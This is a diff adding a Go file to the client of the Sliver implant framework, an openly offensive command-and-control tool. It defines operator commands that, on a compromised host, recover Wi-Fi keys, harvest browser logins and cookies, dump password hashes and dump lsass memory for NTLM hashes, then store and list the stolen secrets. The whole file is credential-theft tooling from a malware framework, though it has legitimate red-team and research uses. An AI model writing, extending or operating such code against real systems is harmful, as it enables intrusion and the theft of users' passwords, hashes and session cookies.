@@ -0,0 +1,355 @@
+package command
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"strings"
+	"text/tabwriter"
+
+	"github.com/bishopfox/sliver/client/spin"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"github.com/desertbit/grumble"
+)
+
+func creds(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	if len(ctx.Args) < 1 {
+		listCreds(ctx, rpc)
+		return
+	}
+	switch strings.ToLower(ctx.Args[0]) {
+	case "ls":
+		listCreds(ctx, rpc)
+	case "add":
+		addCreds(ctx, rpc)
+	case "rm":
+		removeCreds(ctx, rpc)
+	default:
+		fmt.Println(Warn + "Invalid subcommand, see 'help creds'")
+	}
+}
+
+func listCreds(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	allCreds, err := rpc.CredsAll(context.Background(), &commonpb.Empty{})
+	if err != nil {
+		fmt.Printf(Warn+"Failed to list credentials %s\n", err)
+		return
+	}
+	filter := ctx.Flags.String("source")
+	filtered := []*clientpb.Credential{}
+	for _, cred := range allCreds.Credentials {
+		if filter != "" && cred.Source != filter {
+			continue
+		}
+		filtered = append(filtered, cred)
+	}
+	if len(filtered) == 0 {
+		fmt.Printf(Info + "No credentials\n")
+		return
+	}
+	displayCreds(filtered)
+}
+
+func displayCreds(creds []*clientpb.Credential) {
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "ID\tSource\tHost\tOrigin\tUsername\tSecret\tCreated\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("ID")),
+		strings.Repeat("=", len("Source")),
+		strings.Repeat("=", len("Host")),
+		strings.Repeat("=", len("Origin")),
+		strings.Repeat("=", len("Username")),
+		strings.Repeat("=", len("Secret")),
+		strings.Repeat("=", len("Created")))
+	for _, cred := range creds {
+		username := cred.Username
+		if cred.Domain != "" {
+			username = fmt.Sprintf("%s\\%s", cred.Domain, cred.Username)
+		}
+		secret := cred.Plaintext
+		if secret == "" {
+			secret = cred.Hash
+			if cred.HashType != "" {
+				secret = fmt.Sprintf("%s (%s)", cred.Hash, cred.HashType)
+			}
+		}
+		fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t%s\t%s\t\n",
+			cred.ID, cred.Source, cred.Host, cred.Origin, username, secret, cred.CreatedAt)
+	}
+	table.Flush()
+}
+
+func addCreds(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	cred := &clientpb.Credential{
+		Username:  ctx.Flags.String("username"),
+		Domain:    ctx.Flags.String("domain"),
+		Plaintext: ctx.Flags.String("password"),
+		Hash:      ctx.Flags.String("hash"),
+		HashType:  ctx.Flags.String("hash-type"),
+		Host:      ctx.Flags.String("host"),
+		Source:    ctx.Flags.String("source"),
+		Origin:    ctx.Flags.String("origin"),
+	}
+	if cred.Plaintext == "" && cred.Hash == "" {
+		fmt.Println(Warn + "Missing --password or --hash, see 'help creds'")
+		return
+	}
+	if cred.Source == "" {
+		cred.Source = "operator"
+	}
+	if session := ActiveSession.Get(); session != nil {
+		cred.SessionName = session.Name
+		cred.SessionID = session.ID
+	}
+	added, err := rpc.CredsAdd(context.Background(), &clientpb.Credentials{
+		Credentials: []*clientpb.Credential{cred},
+	})
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if len(added.Credentials) == 0 {
+		fmt.Printf(Info + "Credential is already stored\n")
+		return
+	}
+	fmt.Printf(Info+"Saved credential (%s)\n", added.Credentials[0].ID)
+}
+
+func removeCreds(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	if len(ctx.Args) < 2 {
+		fmt.Println(Warn + "Missing credential id, see 'help creds'")
+		return
+	}
+	_, err := rpc.CredsRm(context.Background(), &clientpb.Credential{ID: ctx.Args[1]})
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	fmt.Printf(Info+"Removed credential %s\n", ctx.Args[1])
+}
+
+func wifi(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	ctrl := make(chan bool)
+	go spin.Until("Reading wireless profiles ...", ctrl)
+	result, err := rpc.Wifi(context.Background(), &sliverpb.WifiReq{
+		Request: ActiveSession.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if result.Response != nil && result.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", result.Response.Err)
+		return
+	}
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Interface\tSSID\tAuthentication\tCipher\tKey\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Interface")),
+		strings.Repeat("=", len("SSID")),
+		strings.Repeat("=", len("Authentication")),
+		strings.Repeat("=", len("Cipher")),
+		strings.Repeat("=", len("Key")))
+	recovered := 0
+	for _, profile := range result.Profiles {
+		if profile.Key != "" {
+			recovered++
+		}
+		fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+			profile.Interface, profile.SSID, profile.Authentication, profile.Cipher, profile.Key)
+	}
+	table.Flush()
+	if 0 < recovered {
+		fmt.Println()
+		fmt.Printf(Info+"Recovered %d key(s), see 'creds'\n", recovered)
+	}
+}
+
+func browser(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	browsers := []string{}
+	for _, name := range strings.Split(ctx.Flags.String("browsers"), ",") {
+		if name = strings.ToLower(strings.TrimSpace(name)); name != "" {
+			browsers = append(browsers, name)
+		}
+	}
+	ctrl := make(chan bool)
+	go spin.Until("Collecting browser profiles ...", ctrl)
+	result, err := rpc.Browser(context.Background(), &sliverpb.BrowserReq{
+		Browsers: browsers,
+		Cookies:  ctx.Flags.Bool("cookies"),
+		Request:  ActiveSession.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if result.Response != nil && result.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", result.Response.Err)
+		return
+	}
+	if len(result.Profiles) == 0 {
+		fmt.Printf(Info + "No browser profiles found\n")
+		return
+	}
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Browser\tProfile\tLogins\tCookies\tCookies Loot\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Browser")),
+		strings.Repeat("=", len("Profile")),
+		strings.Repeat("=", len("Logins")),
+		strings.Repeat("=", len("Cookies")),
+		strings.Repeat("=", len("Cookies Loot")))
+	logins := 0
+	for _, profile := range result.Profiles {
+		logins += int(profile.Logins)
+		fmt.Fprintf(table, "%s\t%s\t%d\t%d\t%s\t\n",
+			profile.Browser, profile.Name, profile.Logins, profile.Cookies, profile.CookiesLootID)
+	}
+	table.Flush()
+	for _, profile := range result.Profiles {
+		for _, problem := range append(profile.Errors, profile.Warnings...) {
+			fmt.Printf(Warn+"%s (%s): %s\n", profile.Browser, profile.Name, problem)
+		}
+	}
+	if 0 < logins {
+		fmt.Println()
+		fmt.Printf(Info+"Recovered %d login(s), see 'creds'\n", logins)
+	}
+}
+
+func hashdump(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	ctrl := make(chan bool)
+	go spin.Until("Dumping hashes ...", ctrl)
+	result, err := rpc.Hashdump(context.Background(), &sliverpb.HashdumpReq{
+		Request: ActiveSession.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if result.Response != nil && result.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", result.Response.Err)
+		return
+	}
+	if len(result.Entries) == 0 {
+		fmt.Printf(Info + "No password hashes found\n")
+		return
+	}
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Username\tRID\tType\tHash\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Username")),
+		strings.Repeat("=", len("RID")),
+		strings.Repeat("=", len("Type")),
+		strings.Repeat("=", len("Hash")))
+	for _, entry := range result.Entries {
+		rid := ""
+		if entry.RID != 0 {
+			rid = fmt.Sprintf("%d", entry.RID)
+		}
+		fmt.Fprintf(table, "%s\t%s\t%s\t%s\t\n", entry.Username, rid, entry.HashType, entry.Hash)
+	}
+	table.Flush()
+	fmt.Println()
+	fmt.Printf(Info+"Saved %d hash(es) to the credential store, see 'creds'\n", len(result.Entries))
+}
+
+func lsassDump(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	if session.OS != "windows" {
+		fmt.Printf(Warn + "Command not supported on this operating system\n")
+		return
+	}
+	method := ctx.Flags.String("method")
+	if method != "open" && method != "duplicate" {
+		fmt.Printf(Warn+"Unknown method '%s', expected 'open' or 'duplicate'\n", method)
+		return
+	}
+	ctrl := make(chan bool)
+	go spin.Until("Dumping lsass ...", ctrl)
+	result, err := rpc.Lsass(context.Background(), &sliverpb.LsassReq{
+		Method:   method,
+		Snapshot: ctx.Flags.Bool("snapshot"),
+		Parse:    ctx.Flags.Bool("parse"),
+		Request:  ActiveSession.Request(ctx),
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if result.Response != nil && result.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", result.Response.Err)
+		return
+	}
+	if !ctx.Flags.Bool("parse") {
+		if result.LootID != "" {
+			fmt.Printf(Info+"Lsass dump (%d bytes) saved to loot: %s\n", result.Size, result.LootID)
+		} else {
+			fmt.Printf(Warn + "Failed to save the dump to loot, see the server log\n")
+		}
+		return
+	}
+	if len(result.Credentials) == 0 {
+		fmt.Printf(Info+"No credentials found in the %d byte dump\n", result.Size)
+		return
+	}
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Logon ID\tDomain\tUsername\tNTLM\tSHA1\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Logon ID")),
+		strings.Repeat("=", len("Domain")),
+		strings.Repeat("=", len("Username")),
+		strings.Repeat("=", len("NTLM")),
+		strings.Repeat("=", len("SHA1")))
+	for _, cred := range result.Credentials {
+		fmt.Fprintf(table, "0x%x\t%s\t%s\t%s\t%s\t\n", cred.LogonID, cred.Domain, cred.Username, cred.NTHash, cred.SHA1Hash)
+	}
+	table.Flush()
+	fmt.Println()
+	fmt.Printf(Info+"Parsed %d credential(s) from a %d byte dump on the host, see 'creds'\n", len(result.Credentials), result.Size)
+}